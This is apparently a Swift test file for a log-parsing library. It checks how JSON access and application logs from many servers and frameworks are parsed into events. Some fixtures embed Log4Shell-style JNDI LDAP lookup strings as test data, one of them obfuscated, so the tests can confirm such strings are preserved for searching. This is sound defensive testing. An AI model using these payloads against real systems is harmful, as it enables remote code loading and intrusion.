import Bytes
import Evidence
import Testing

@testable import LogParse

@Suite struct JSONLogTests {
  private func event(_ line: String, path: String = "access.log") throws -> Event? {
    try EventDump(line + "\n" + line + "\n", path: path).events.first
  }

  /// As nginx, Apache, Tomcat, Caddy, Traefik, API gateways, pino and logstash write one request.
  @Test(
    arguments: [
      #"{"time_local":"25/Nov/2026:05:20:30 +0000","remote_addr":"203.0.113.66","request":"GET /a?b=1 HTTP/1.1","status":"200","#
        + #""body_bytes_sent":"82","http_user_agent":"M","request_time":"0.012"}"#,
      #"{"time_iso8601":"2026-11-25T14:20:30+09:00","remote_addr":"203.0.113.66","request_method":"GET","uri":"/a","args":"b=1","#
        + #""status":200,"body_bytes_sent":82,"http_user_agent":"M"}"#,
      #"{"msec":"1795584030.000","remote_addr":"203.0.113.66","uri":"/a","request_uri":"/a?b=1","method":"GET","status":200,"#
        + #""bytes_sent":82,"agent":"M"}"#,
      #"{"time":"2026-11-25T05:20:30+0000","remoteIP":"203.0.113.66","host":"www","request":"/a","query":"?b=1","method":"GET","#
        + #""status":"200","bytes":"82","userAgent":"M","referer":"-"}"#,
      #"{"host":"203.0.113.66","logicalUserName":"-","user":"-","time":"[25/Nov/2026:05:20:30 +0000]","#
        + #""request":"GET /a?b=1 HTTP/1.1","statusCode":"200","size":"82","requestHeaders":{"Referer":"-","User-Agent":"M"}}"#,
      #"{"level":"info","ts":1795584030.0,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"203.0.113.66","#
        + #""proto":"HTTP/2.0","method":"GET","uri":"/a?b=1","headers":{"User-Agent":["M"]}},"status":200,"size":82}"#,
      #"{"ClientHost":"203.0.113.66","DownstreamStatus":200,"RequestMethod":"GET","RequestPath":"/a?b=1","DownstreamContentSize":82,"#
        + #""StartUTC":"2026-11-25T05:20:30Z","request_User-Agent":"M"}"#,
      #"{"requestId":"x","ip":"203.0.113.66","requestTime":"25/Nov/2026:05:20:30 +0000","httpMethod":"GET","#
        + #""path":"/a?b=1","status":"200","responseLength":"82","userAgent":"M"}"#,
      #"{"level":30,"time":1795584030000,"req":{"method":"GET","url":"/a?b=1","headers":{"user-agent":"M"},"#
        + #""remoteAddress":"::ffff:203.0.113.66"},"res":{"statusCode":200,"bytes":82},"msg":"request completed"}"#,
      #"{"@timestamp":"2026-11-25T05:20:30Z","source":{"ip":"203.0.113.66"},"http":{"request":{"method":"GET"},"#
        + #""response":{"status_code":200,"bytes":82}},"url":{"original":"/a?b=1"},"user_agent":{"original":"M"}}"#,
      #"{"@timestamp":"2026-11-25T05:20:31Z","message":"203.0.113.66 - - [25/Nov/2026:05:20:30 +0000] \"GET /a?b=1 HTTP/1.1\" "#
        + #"200 82 \"-\" \"M\"","log":{"file":{"path":"/var/log/nginx/access.log"}}}"#,
    ])
  func requests(_ line: String) throws {
    let event = try #require(try event(line))
    #expect(event.dataType == "web:access:request", "\(line)")
    #expect(event.text("remote_address") == "203.0.113.66" && event.text("method") == "GET", "\(line)")
    #expect(event.text("path") == "/a" && event.text("query") == "b=1", "\(line)")
    #expect(event.integer("status") == 200 && event.integer("response_bytes") == 82, "\(line)")
    #expect(event.text("user_agent") == "M" && event.text("referrer") == nil && event.text("user") == nil, "\(line)")
    #expect(event.time?.nanoseconds == 1_795_584_030_000_000_000, "\(line)")
    #expect(event.entities == [Entity(.address, "203.0.113.66")], "\(line)")
  }

  @Test func whatHasNoNameIsKept() throws {
    let event = try #require(
      try event(
        #"{"remote_addr":"10.0.0.7","http_x_forwarded_for":"1.1.1.1, 203.0.113.66","request":"GET / HTTP/1.1","status":"200","#
          + #""x_api":"${jndi:ldap://203.0.113.9/a}","http":{"x-token":"t"}}"#))
    #expect(event.text("other_fields") == "x_api=${jndi:ldap://203.0.113.9/a} http.x-token=t")
    #expect(event.text("forwarded_for") == "1.1.1.1, 203.0.113.66")
    #expect(event.entities == [Entity(.address, "10.0.0.7"), Entity(.address, "203.0.113.66")])
    // Behind a public address the list is what a client wrote.
    let direct = try self.event(
      #"{"remote_addr":"198.51.100.7","http_x_forwarded_for":"203.0.113.66","request":"GET / HTTP/1.1","status":"200"}"#
    )
    #expect(direct?.entities == [Entity(.address, "198.51.100.7")])
    let refused = try self.event(
      #"{"remote_addr":"198.51.100.7","request":"\u0016\u0003\u0001","status":"400","time":"x"}"#)
    #expect(refused?.text("request") == "\u{16}\u{3}\u{1}" && refused?.text("method") == nil && refused?.time == nil)
  }

  /// As log4j, logstash's encoder, ECS, python, bunyan, MongoDB and Falco write.
  @Test(
    arguments: [
      (
        #"{"@timestamp":"2026-11-25T05:20:30.000Z","level":"ERROR","logger_name":"a.B","thread_name":"main","message":"m"}"#,
        "ERROR"
      ),
      (
        #"{"instant":{"epochSecond":1795584030,"nanoOfSecond":0},"level":"WARN","loggerName":"a","message":"m"}"#,
        "WARN"
      ),
      (#"{"@timestamp":"2026-11-25T05:20:30Z","log.level":"INFO","message":"m","ecs.version":"1.2.0"}"#, "INFO"),
      (#"{"@timestamp":"2026-11-25T05:20:30Z","log":{"level":"INFO","logger":"a"},"message":"m"}"#, "INFO"),
      (#"{"asctime":"2026-11-25 05:20:30,000","levelname":"INFO","message":"m"}"#, "INFO"),
      (#"{"name":"app","hostname":"h","pid":1,"level":50,"msg":"m","time":"2026-11-25T05:20:30.000Z","v":0}"#, "ERROR"),
      (
        #"{"t":{"$date":"2026-11-25T05:20:30.000+00:00"},"s":"I","c":"NETWORK","id":1,"ctx":"listener","msg":"m"}"#, "I"
      ),
      (#"{"output":"m","priority":"Warning","rule":"r","time":"2026-11-25T05:20:30.000000000Z"}"#, "Warning"),
    ])
  func entries(_ line: String, _ level: String) throws {
    let event = try #require(try event(line, path: "app.log"))
    #expect(event.dataType == "app:log:entry" && event.text("text") == "m" && event.text("level") == level, "\(line)")
    #expect(event.time?.nanoseconds == 1_795_584_030_000_000_000, "\(line)")
  }

  @Test func tracesAndFarEnds() throws {
    let trace = try event(
      #"{"@timestamp":"2026-11-25T05:20:30Z","level":"ERROR","message":"m","stack_trace":"a.B\n\tat c"}"#)
    #expect(trace?.text("text") == "m\na.B\n\tat c")
    let mongo = try event(
      #"{"t":{"$date":"2026-11-25T05:20:30Z"},"s":"I","c":"NETWORK","msg":"Connection accepted","attr":{"remote":"203.0.113.66:50122"}}"#
    )
    #expect(mongo?.integer("remote_port") == 50122 && mongo?.entities == [Entity(.address, "203.0.113.66")])
  }

  @Test func whatIsNoLog() throws {
    for line in [
      #"{"a":1,"b":"c"}"#, #"{"time":"2026-11-25T05:20:30Z","value":3}"#, #"{"method":"GET","path":"/a"}"#,
      #"{"status":"200","remote_addr":"203.0.113.66"}"#, #"{"time":"noon","message":"m","level":"INFO"}"#,
      #"{"timestamp":1795584030000,"message":"m"}"#, #"{"openapi":"3.0","paths":{"/a":{"get":{}}}}"#,
      #"{"operations":{"PutItem":{"http":{"method":"POST","requestUri":"/items","responseCode":200}}},"version":"2.0"}"#,
    ] { #expect(EventDump.recognize(Array((line + "\n").utf8), path: "x.json") == nil, "\(line)") }
    let deep = String(repeating: #"{"a":"#, count: 5000) + "1" + String(repeating: "}", count: 5000)
    #expect(EventDump.recognize(Array(deep.utf8), path: "x.json") == nil)
  }

  @Test func aRecordOfSomethingElseIsTold() throws {
    let line = #"{"remote_addr":"203.0.113.66","request":"GET / HTTP/1.1","status":"200"}"#
    let dump = try EventDump(line + "\n{\"x\":1}\nno JSON\n" + line + "\n", path: "access.log")
    #expect(dump.events.count == 2 && dump.coverages.contains { $0.state == .skipped })
  }

  @Test func whatAContainerPrints() throws {
    let line = #"{\"remote_addr\":\"203.0.113.66\",\"request\":\"GET /a HTTP/1.1\",\"status\":\"200\"}"#
    let docker = try EventDump(
      "{\"log\":\"\(line)\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-25T05:20:30Z\"}\n", path: "x-json.log")
    #expect(docker.format == "app.container" && docker.events.first?.text("path") == "/a")
    #expect(docker.events.first?.time?.description == "2026-11-25T05:20:30Z")
    let plain = line.split(separator: "\\").joined()
    let kubernetes = try EventDump("2026-11-25T05:20:30.1Z stdout F \(plain)\n", path: "0.log")
    #expect(kubernetes.events.first?.text("path") == "/a" && kubernetes.events.first?.text("stream") == "stdout")
    let other = try EventDump("2026-11-25T05:20:30.1Z stdout F {\"a\":1}\n", path: "0.log")
    #expect(other.events.first?.text("text") == "{\"a\":1}")
  }

  /// What a program prints between its records, and records that are something else, are searched as well.
  @Test func textBetweenRecords() throws {
    let record = #"{"@timestamp":"2026-11-25T05:20:12.123Z","level":"ERROR","message":"x"}"#
    let text = """
      \(record)
      java.lang.IllegalStateException: ${${lower:j}ndi:ldap://198.51.100.7/a}
      \tat com.acme.Login.doPost(Login.java:12)
      \(record)
      {"foo":"${jndi:ldap://198.51.100.8/b}"}
      {"foo":"bar"}
      {"@timestamp":"2026-11-25T05:20:12.123Z","message":"${jndi:ldap://198.51.100.9/c
      \(record)

      """
    let dump = try EventDump(text, path: "app.json")
    #expect(dump.format == "app.json" && HostileInputTests.isWhole(dump, text.utf8.count))
    let lines = dump.events.filter { $0.dataType == "text:line" }
    #expect(lines.count == 3 && dump.events.count == 6)
    #expect(lines.compactMap { $0.text("text") }.map { $0.contains("ndi:ldap://198.51.100.") } == [true, true, true])
    #expect(lines.first?.locator.line == 2 && lines.first?.locator.offset == UInt64(record.utf8.count + 1))
  }
}
